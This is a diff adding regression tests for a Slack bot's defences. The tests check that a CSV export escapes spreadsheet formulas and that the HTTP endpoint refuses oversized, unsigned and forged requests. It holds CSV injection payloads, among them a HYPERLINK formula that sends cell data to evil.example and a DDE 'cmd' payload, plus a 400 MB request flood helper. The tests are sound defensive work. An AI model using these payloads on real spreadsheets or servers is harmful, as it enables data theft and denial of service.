@@ -1,0 +1,106 @@
+"""Defects from the second hostile review (#22) at Atelier's edges: HTTP and the ship pack's CSV.
+
+Each test fails with its fix switched off (checked when it was written; see RELIABILITY.md).
+"""
+
+from __future__ import annotations
+
+import csv
+import http.client
+import io
+import socket
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from bot import ship_pack
+from bot.playbook.gate import GateItem
+from bot.playbook.plays.ship import Final, ShipRecord
+from bot.serve import MAX_BODY_BYTES
+from bot.workbench.local import LocalProcesses
+from bot.workbench.standin import sign
+from storage.files import ImageStore
+from tests.workbench import CHANNEL, DIRECTOR, NAMES
+
+HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Open the brief")'
+
+
+def test_a_formula_in_finals_csv_arrives_as_text(tmp_path: Path) -> None:
+    store = ImageStore(str(tmp_path / "store"))
+    digest = store.put(b"\x89PNG not really")
+    cells = [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\tTab", "\rCR", "A calm one"]
+    finals = [
+        Final(n, digest, alt, "=UREVIEWER", "2026-12-01", {item.value: True for item in GateItem})
+        for n, alt in enumerate(cells, start=1)
+    ]
+    record = ShipRecord(1, "=cmd", finals, [], [], [])
+    with zipfile.ZipFile(io.BytesIO(ship_pack.build(record, store))) as pack:
+        rows = list(csv.DictReader(io.StringIO(pack.read("finals.csv").decode())))
+    assert [row["alt_text"] for row in rows] == ["'" + c for c in cells[:-1]] + ["A calm one"]
+    assert {row["cleared_by"] for row in rows} == {"'=UREVIEWER"}
+    assert [row["number"] for row in rows] == [str(n) for n in range(1, 8)]
+
+
+def _peak_rss_mb(pid: int) -> float:
+    status = Path(f"/proc/{pid}/status").read_text()
+    line = next(line for line in status.splitlines() if line.startswith("VmHWM:"))
+    return int(line.split()[1]) / 1024
+
+
+def _post(port: int, body: bytes, headers: dict[str, str]) -> int:
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
+    connection.request("POST", "/slack/events", body=body, headers=headers)
+    status = connection.getresponse().status
+    connection.close()
+    return status
+
+
+def _post_huge(port: int, size: int) -> int:
+    """An unsigned POST claiming `size` bytes, sent in 1 MB pieces for as long as serve reads."""
+    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
+        head = (
+            "POST /slack/events HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+            f"Content-Length: {size}\r\n\r\n"
+        )
+        sock.sendall(head.encode())
+        piece = b"{" * (1 << 20)
+        try:
+            for _ in range(size // len(piece)):
+                sock.sendall(piece)
+        except OSError:
+            pass  # serve answered and hung up before the body was all sent: as it should
+        answer = sock.recv(200).decode(errors="replace")
+    return int(answer.split()[1])
+
+
+@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
+def test_unsigned_requests_are_refused_before_they_are_read_or_parsed(
+    db_url: str, tmp_path: Path
+) -> None:
+    with LocalProcesses(db_url, tmp_path / "store", NAMES, tmp_path / "logs") as stack:
+        slack, port = stack.standin, stack.port
+        assert slack.command(DIRECTOR, CHANNEL, "help").status == 200
+        time.sleep(0.5)
+        before = _peak_rss_mb(stack.server.pid)
+        assert _post_huge(port, 400 * 1024 * 1024) == 413
+        rise = _peak_rss_mb(stack.server.pid) - before
+        print(f"serve's peak memory rose {rise:.0f} MB for an unsigned 400 MB request")
+        assert rise < 300
+        stamp = str(int(time.time()))
+        signed_big = b"x" * (MAX_BODY_BYTES + 1)
+        big_headers = {
+            "X-Slack-Request-Timestamp": stamp,
+            "X-Slack-Signature": sign(slack.signing_secret, stamp, signed_big.decode()),
+        }
+        assert _post(port, signed_big, big_headers) == 413
+        assert _post(port, b"x", {"Content-Type": "application/json"}) == 401
+        assert _post(port, b"x", {"X-Slack-Request-Timestamp": stamp}) == 401
+        superscript = {"X-Slack-Request-Timestamp": "\u00b2", "X-Slack-Signature": "v0=00"}
+        assert _post(port, b"x", superscript) == 401
+        forged = {"X-Slack-Request-Timestamp": stamp, "X-Slack-Signature": "v0=" + "0" * 64}
+        assert _post(port, b"command=%2Fatelier&text=help", forged) == 401
+        assert slack.command(DIRECTOR, CHANNEL, "help").status == 200
+        log = stack.log_text("serve")
+    assert "Traceback" not in log and "Exception" not in log
